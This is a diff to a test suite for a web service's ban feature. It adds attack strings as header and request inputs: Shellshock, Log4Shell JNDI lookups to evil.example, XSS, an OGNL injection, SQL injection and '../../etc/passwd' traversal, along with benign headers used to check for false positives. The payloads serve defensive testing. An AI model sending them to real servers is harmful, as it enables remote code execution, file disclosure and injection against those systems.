@@ -170,6 +170,11 @@ describe('bans', () => {
     { 'user-agent': '() { :; }; /bin/bash -c x' },
     { 'user-agent': '<script>alert(1)</script>' },
     { 'x-api-version': '\u0024{jndi:ldap://evil.example/a}' },
+    { referer: 'https://evil.example/?q=<script>alert(1)</script>' },
+    { 'accept-language': '\u0024{jndi:ldap://evil.example/a}' },
+    { 'content-type': "%{(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime())}{{7*7}}" },
+    { 'true-client-ip': "192.0.2.1' or '1'='1" },
+    { forwarded: 'for="../../etc/passwd"' },
   ]
   test('hit an attack in a header', async () => {
     for (const headers of HEADERS) {
@@ -180,11 +185,33 @@ describe('bans', () => {
     }
   })
 
+  test('hit an attack in a request with an invalid host, or without one', async () => {
+    for (const host of ['Host: <script>\r\n', 'Host: a b\r\n', 'Host: a.example\r\nHost: b.example\r\n', '']) {
+      const from = `X-Forwarded-For: 198.51.100.${++lastAddress}\r\nConnection: close\r\n\r\n`
+      const request = async (path: string) =>
+        parseRaw(await sendRaw(service().url, `GET ${path} HTTP/1.1\r\n${host}${from}`)).body.code
+      assert.equal(await request('/api/v1/version'), 'BAD_REQUEST', host)
+      assert.equal(await request(`${OPERATOR}/?x=../../etc/passwd`), 'BANNED', host)
+      assert.equal(await request('/api/v1/version'), 'BANNED', host)
+    }
+  })
+
   const HARMLESS_HEADERS: Record<string, string>[] = [
     { cookie: 'theme=dark; id=5; last=/shop/index.php?a=1&id=2; cat=7' },
     { 'user-agent': 'Mozilla/5.0 (Linux; U; Android 4.1; id; GT-I9100) AppleWebKit/534.30; id-id' },
     { 'x-requested-with': 'XMLHttpRequest' },
     { authorization: 'Basic YWRtaW46YWRtaW4=' },
+    {
+      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+      'accept-language': 'id-ID, id;q=0.9, or;q=0.8, en; id',
+      'cf-visitor': '{"scheme":"https"}',
+      'content-type': 'multipart/form-data; boundary=----WebKitFormBoundary; id',
+      forwarded: 'for="[2001:db8::1]:80";proto=https;by=_hidden',
+      'if-none-match': 'W/"a--b", "c"',
+      referer: 'https://forum.example/index.php?topic=1&id=2;cat=3#or-1',
+      'sec-ch-ua': '"Not)A;Brand";v="8", "Chromium";v="138"',
+      via: '1.1 varnish (Varnish/7.1), 1.1 google',
+    },
   ]
   test('do not hit usual headers, queries and bodies', async () => {
     for (const headers of HARMLESS_HEADERS) {
